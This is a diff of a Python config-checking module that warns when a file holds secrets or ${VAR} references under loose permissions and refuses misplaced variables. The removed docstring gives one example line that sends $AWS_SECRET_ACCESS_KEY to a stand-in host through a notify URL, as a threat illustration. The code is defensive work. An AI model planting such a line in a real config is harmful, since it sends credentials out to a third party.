@@ -1,24 +1,11 @@
 """Checks of the config file beyond its values: who may read it, who may write it, where ``${VAR}`` is.
 
-A password written into a URL (``json://bob:PASSWORD@host``, a database URL),
-a secret-looking query value (``?token=...``) or a secret-looking key with a
-literal value (``password = "..."``) in a file readable by group or others
-gives one warning line that names the key, never the secret. A ``${VAR}``
-reference is not a secret: its value lives in the environment.
-
-A file that group or others may *write* is worse when it holds a secret or a
-``${VAR}``: whoever edits it can send any environment variable to any host
-(``notify = ["json://theirhost/${AWS_SECRET_ACCESS_KEY}"]``). That is warned
-about as ssh does for its own files (``chmod go-w``).
-
-``${VAR}`` is expanded in ``[[alerts]] notify`` targets only, at send time
-(notifier/secrets.py). Anywhere else it would be sent or shown as it is, or
-be a way to read the environment: :func:`misplaced_variables` names the keys,
-and loading the config refuses them (a title or body may still say ``${crs}``:
-a dollar sign before a template placeholder).
-
-Call :func:`config_file_warnings` once the file is known to parse, and log each
-line as a warning.
+A literal secret (a password in a URL, ``?token=...``, ``password = "..."``) in a file group or
+others may read, or a secret or a ``${VAR}`` in one they may write (whoever edits it can send any
+environment variable to any host), gives one warning line naming the key, never the secret:
+:func:`config_file_warnings`, called once the file parses. ``${VAR}`` is expanded in ``[[alerts]]
+notify`` targets only, at send time (notifier/secrets.py); anywhere else loading refuses it
+(:func:`refuse_misplaced_variables`). Why: docs/alerts.md, "Secrets".
 """
 
 from __future__ import annotations
@@ -52,8 +39,9 @@ def config_file_warnings(path: Path, data: Mapping[str, Any] | None = None) -> l
     except (OSError, UnicodeDecodeError, tomllib.TOMLDecodeError):
         return []  # loading the config reports these
     where = sorted(set(secret_places(data)))
+    variables = any(_ANY_VAR.search(text) for *_, text in _strings(data))
     warnings = []
-    if mode & (stat.S_IWGRP | stat.S_IWOTH) and (where or _has_variables(data)):
+    if mode & (stat.S_IWGRP | stat.S_IWOTH) and (where or variables):
         holds = f"a secret ({', '.join(where[:5])})" if where else "${VAR} targets"
         warnings.append(
             f"{path}: UNPROTECTED: writable by others (mode {mode:04o}) while it holds {holds}: "
@@ -67,37 +55,43 @@ def config_file_warnings(path: Path, data: Mapping[str, Any] | None = None) -> l
     return warnings
 
 
-def misplaced_variables(data: Any, label: str = "") -> Iterator[str]:
-    """The keys outside ``[[alerts]] notify`` whose values hold a ``${VAR}`` (never expanded there),
-    named as the loader names them (``[[alerts]] me title``)."""
-    from eewatch.config.values import TEMPLATE_FIELDS
-
-    in_rule = label.startswith("[[alerts]]")
+def _strings(
+    data: Any, label: str = "", keys: tuple[str | int, ...] = ()
+) -> Iterator[tuple[str, tuple[str | int, ...], str]]:
+    """Every string in the TOML ``data``: its key as the loader names it (``[[alerts]] me title``),
+    the keys (and list indexes) leading to it, the string."""
     if isinstance(data, dict):
         for key, item in data.items():
             array = not label and key in ("alerts", "sources", "profiles")
             inner = f"{label} {key}".strip() if label else f"[[{key}]]" if array else f"[{key}]"
-            if in_rule and key == "notify":
-                continue
-            if in_rule and key in ("title", "body") and isinstance(item, str):
-                if any(name not in TEMPLATE_FIELDS for name in _ANY_VAR.findall(item)):
-                    yield inner
-                continue
-            yield from misplaced_variables(item, inner)
+            yield from _strings(item, inner, (*keys, key))
     elif isinstance(data, list):
         for index, item in enumerate(data, start=1):
             name = item.get("name") if isinstance(item, dict) else None
             if label == "[[profiles]]":  # a profile's name is a person's: its number only
-                yield from misplaced_variables(item, f"{label} #{index}")
-            else:
-                yield from misplaced_variables(item, f"{label} {name}" if isinstance(name, str) else label)
-    elif isinstance(data, str) and _ANY_VAR.search(data):
-        yield label
+                name = f"#{index}"
+            yield from _strings(item, f"{label} {name}" if isinstance(name, str) else label, (*keys, index))
+    elif isinstance(data, str):
+        yield label, keys, data
+
+
+def misplaced_variables(data: Mapping[str, Any]) -> Iterator[str]:
+    """The keys outside ``[[alerts]] notify`` whose values hold a ``${VAR}`` (never expanded there)."""
+    from eewatch.config.values import TEMPLATE_FIELDS
+
+    for label, keys, text in _strings(data):
+        names = _ANY_VAR.findall(text)
+        if keys[0] == "alerts" and "notify" in keys:
+            continue
+        if keys[0] == "alerts" and keys[-1] in ("title", "body"):  # ${crs}: a $ before a placeholder
+            names = [name for name in names if name not in TEMPLATE_FIELDS]
+        if names:
+            yield label
 
 
 def refuse_misplaced_variables(data: Mapping[str, Any], where: str) -> None:
     """A ``${VAR}`` outside ``[[alerts]] notify`` is a :class:`ConfigError` naming the key."""
-    for label in misplaced_variables(dict(data)):
+    for label in misplaced_variables(data):
         database = label.startswith("[database]")
         hint = "; for a database password set $EEWATCH_DATABASE_URL instead" if database else ""
         raise ConfigError(
@@ -106,28 +100,12 @@ def refuse_misplaced_variables(data: Mapping[str, Any], where: str) -> None:
         )
 
 
-def _has_variables(data: Any) -> bool:
-    if isinstance(data, dict):
-        return any(_has_variables(item) for item in data.values())
-    if isinstance(data, list):
-        return any(_has_variables(item) for item in data)
-    return isinstance(data, str) and bool(_ANY_VAR.search(data))
-
-
-def secret_places(value: Any, label: str = "") -> Iterator[str]:
-    """The keys (``[[alerts]] notify``, ``[database] url``) whose values hold a literal secret."""
-    if isinstance(value, dict):
-        for key, item in value.items():
-            inner = f"{label} {key}".strip() if label else f"[{key}]"
-            if isinstance(item, str) and _SECRET_NAME.search(str(key)) and _literal(item):
-                yield inner
-            else:
-                yield from secret_places(item, inner)
-    elif isinstance(value, list):
-        for item in value:
-            yield from secret_places(item, label)
-    elif isinstance(value, str) and _url_secret(value):
-        yield label
+def secret_places(data: Mapping[str, Any]) -> Iterator[str]:
+    """The keys (``[[alerts]] me notify``, ``[database] url``) whose values hold a literal secret."""
+    for label, keys, text in _strings(data):
+        named = isinstance(keys[-1], str) and _SECRET_NAME.search(keys[-1])
+        if (named and _literal(text)) or _url_secret(text):
+            yield label
 
 
 def _literal(value: str) -> bool:
